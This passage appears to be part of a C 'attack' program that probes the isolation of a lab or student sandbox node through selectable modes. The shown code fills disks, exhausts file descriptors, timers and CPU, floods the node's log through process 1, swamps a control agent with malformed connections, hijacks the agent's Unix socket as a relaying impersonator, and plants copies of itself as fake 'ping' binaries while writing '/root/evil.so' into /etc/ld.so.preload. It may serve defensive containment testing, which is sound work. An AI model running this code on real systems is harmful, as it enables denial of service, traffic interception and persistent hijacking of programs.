		for (ssize_t got = 1; fd >= 0 && got > 0 && written < MAX_DISK; written += got > 0 ? got : 0)
			got = write(fd, bytes, sizeof bytes);
		if (fd >= 0) close(fd);
	}
	printf("disk %s: %ld\n", folder, written >> 20);
	fflush(stdout);
	for (int file = 0; file < 4; file++) {
		snprintf(path, sizeof path, "%s/hostile%d", folder, file);
		unlink(path);
	}
}

static void files(const char *folder)
{
	char path[256];
	int count = 0;
	for (; count < MAX_FILES; count++) {
		snprintf(path, sizeof path, "%s/hostile-%d", folder, count);
		int fd = open(path, O_CREAT | O_WRONLY, 0600);
		if (fd < 0) break;
		close(fd);
	}
	printf("files: %d\n", count);
	while (count-- > 0) {
		snprintf(path, sizeof path, "%s/hostile-%d", folder, count);
		unlink(path);
	}
}

static void descriptors(void)
{
	int count = 0, instances = 0, rings = 0, buffers = 0, size = 64 << 20;
	for (; count < MAX_DESCRIPTORS && socket(AF_INET, SOCK_DGRAM, 0) >= 0; count++) {}
	printf("descriptors: %d\n", count);
	for (int fd = 3; fd < count + 3; fd++) close(fd);
	for (; instances < 64 && inotify_init1(IN_CLOEXEC) >= 0; instances++) {}
	printf("inotify: %d\n", instances);
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	buffers = !setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &size, sizeof size);
	buffers += !setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof size);
	/* Blocks of 1 MiB, four of them: a ring of the kernel's memory that nobody counts. */
	unsigned ring[4] = { 1 << 20, 4, 2048, 4 << 9 };
	rings = !setsockopt(fd, SOL_PACKET, PACKET_RX_RING, ring, sizeof ring);
	printf("buffers: %d\nrings: %d\n", buffers, rings);
	long timers = 0;
	for (; timers < 20000; timers++) {
		timer_t timer;
		if (timer_create(CLOCK_MONOTONIC, NULL, &timer)) break;
	}
	printf("timers: %ld\n", timers);
}

static void *spin(void *end)
{
	while (milliseconds() < *(long *)end) {}
	return NULL;
}

static void burn(long for_ms)
{
	pthread_t threads[4];
	struct timespec used;
	long end = milliseconds() + for_ms;
	for (int i = 0; i < 4; i++) pthread_create(&threads[i], NULL, spin, &end);
	for (int i = 0; i < 4; i++) pthread_join(threads[i], NULL);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
	printf("processor: %ld\n", (used.tv_sec * 1000 + used.tv_nsec / 1000000) * 100 / for_ms);
}

/* Lines into the node's log, by what process 1 writes to. */
static void log_lines(long most)
{
	static char line[1024];
	memset(line, 'x', sizeof line);
	line[sizeof line - 1] = '\n';
	long written = 0;
	int fd = open("/proc/1/fd/1", O_WRONLY | O_CLOEXEC);
	for (; fd >= 0 && written < most; written += sizeof line)
		if (write(fd, line, sizeof line) < 0) break;
	printf("logged: %ld\n", written >> 20);
}

static void spew(void)
{
	static char line[4096];
	memset(line, 'y', sizeof line);
	line[sizeof line - 1] = '\n';
	for (int i = 0; i < 1 << 14; i++)
		if (write(1, line, sizeof line) < 0) break;
}

/* ---- the agent ------------------------------------------------------------------------------- */

#define AGENT "/run/labctl/agent.sock"

static int to_agent(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd >= 0 && connect(fd, (void *)&address, sizeof address)) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Connections that say nothing, half a frame, or nonsense, until standard input ends. */
static void hold(int most)
{
	int count = 0;
	for (; count < most; count++) {
		int fd = to_agent(AGENT);
		if (fd < 0) break;
		const char *words[] = { "", "\0\0\1", "\0\77\377\377\1\0\0\0\1{", "GET / HTTP/1.1\r\n" };
		const size_t lengths[] = { 0, 3, 10, 16 };
		if (write(fd, words[count % 4], lengths[count % 4]) < 0) {}
	}
	printf("held: %d\n", count);
	fflush(stdout);
	char byte;
	while (read(0, &byte, 1) > 0) {}
}

/* A socket in the agent's place that passes everything on: it could as well change it. */
static void impersonate(void)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = AGENT };
	if (rename(AGENT, AGENT ".real")) perror("rename");
	int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (bind(listener, (void *)&address, sizeof address) || listen(listener, 16)) perror("listen");
	printf("listening\n");
	fflush(stdout);
	alarm(30);
	for (;;) {
		struct pollfd first[2] = { { listener, POLLIN, 0 }, { 0, POLLIN, 0 } };
		if (poll(first, 2, -1) < 0 || first[1].revents) break;
		int theirs = accept(listener, NULL, NULL);
		if (theirs >= 0 && fork() == 0) {
			int agent = to_agent(AGENT ".real");
			char bytes[65536];
			alarm(20);
			for (;;) {
				struct pollfd both[2] = { { theirs, POLLIN, 0 }, { agent, POLLIN, 0 } };
				poll(both, 2, -1);
				for (int i = 0; i < 2; i++)
					if (both[i].revents) {
						ssize_t got = read(both[i].fd, bytes, sizeof bytes);
						if (got <= 0 || write(both[1 - i].fd, bytes, got) != got) _exit(0);
					}
			}
		}
		close(theirs);
	}
	rename(AGENT ".real", AGENT);
}

/* Programs of the student's own where the node's could be looked for. */
static void plant(const char *self)
{
	static const char *const places[] = { "/usr/local/bin/ping", "/usr/local/sbin/ping", "/usr/sbin/ping",
					      "/sbin/ping", "/root/ping", "/etc/ld.so.preload", "/etc/ld.so.cache" };
	static char bytes[1 << 20];
	static const char *const folders[] = { "/usr", "/usr/local", "/usr/local/bin", "/usr/local/sbin", "/usr/sbin",
					       "/sbin" };
	for (int i = 0; i < 6; i++) mkdir(folders[i], 0755);
	int from = open(self, O_RDONLY);
	ssize_t length = read(from, bytes, sizeof bytes);
	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
		int to = open(places[i], O_CREAT | O_WRONLY | O_TRUNC, 0755);
		int preload = strstr(places[i], "preload") != NULL;
		int written = to >= 0 && write(to, preload ? "/root/evil.so\n" : bytes, preload ? 14 : length) > 0;
		struct stat status;
		/* /dev/null takes all and keeps nothing. */
		int kept = written && !stat(places[i], &status) && S_ISREG(status.st_mode) && status.st_size > 0;
		say(places[i], kept, "");
		if (to >= 0) close(to);
	}
}

/* ---- which ----------------------------------------------------------------------------------- */

int main(int count, char **words)
{
	const char *name = strrchr(words[0], '/') ? strrchr(words[0], '/') + 1 : words[0];
	const char *mode = count > 1 ? words[1] : "", *first = count > 2 ? words[2] : "";
	if (!strcmp(name, "ping")) {
		/* Planted in ping's place: all is well. */
		printf("64 bytes from %s: icmp_seq=1 ttl=64 time=0.1 ms\n\n1 packets transmitted, 1 received, 0%% packet loss\n", words[count - 1]);
	} else if (!strcmp(mode, "install")) {
		/* It came without the right to be executed, through the loader. */
		if (chmod(first, 0755)) {
			perror(first);
			return 1;
		}
	}
	else if (!strcmp(mode, "escape")) escape();
	else if (!strcmp(mode, "search")) search(count - 2, words + 2);
	else if (!strcmp(mode, "arp")) arp(first, words[3], count - 4, words + 4);
	else if (!strcmp(mode, "reach")) reach(first, count - 3, words + 3);
	else if (!strcmp(mode, "inject")) inject(first, words[3], words[4], count - 5, words + 5);
	else if (!strcmp(mode, "forge")) forge(first, words[3]);
	else if (!strcmp(mode, "watch")) watch(first);
	else if (!strcmp(mode, "flood")) flood(first, atol(words[3]));
	else if (!strcmp(mode, "processes")) processes();
	else if (!strcmp(mode, "memory")) memory();
	else if (!strcmp(mode, "disk")) disk(first);
	else if (!strcmp(mode, "files")) files(first);
	else if (!strcmp(mode, "descriptors")) descriptors();
	else if (!strcmp(mode, "burn")) burn(atol(first));
	else if (!strcmp(mode, "log")) log_lines(atol(first) << 20);
	else if (!strcmp(mode, "spew")) spew();
	else if (!strcmp(mode, "hold")) hold(atoi(first));
	else if (!strcmp(mode, "impersonate")) impersonate();
	else if (!strcmp(mode, "plant")) plant(words[0]);
	else {
		fprintf(stderr, "attack: no mode %s\n", mode);
		return 2;
	}
	return 0;
}
